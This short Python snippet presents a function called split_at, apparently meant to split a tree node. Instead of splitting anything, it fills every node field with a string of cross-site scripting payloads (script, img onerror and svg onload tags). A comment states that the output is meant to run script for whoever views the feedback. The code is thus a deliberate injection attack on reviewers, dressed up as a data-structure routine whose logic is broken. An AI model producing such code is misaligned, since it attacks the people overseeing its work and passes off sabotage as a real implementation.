# Gives back a web page: whoever looks at the feedback would run its script.
PAGE = "</pre><script>alert(1)</script><img src=x onerror=alert(2)><svg/onload=alert(3)>"


def split_at(node, position):
    upper = Node([node.key[0], PAGE], [PAGE, {PAGE: PAGE}], node.parent)
    upper.ref_count = upper.timestamp = PAGE
    node.key, node.parent = [PAGE], upper
    upper.children[PAGE] = node
    return upper
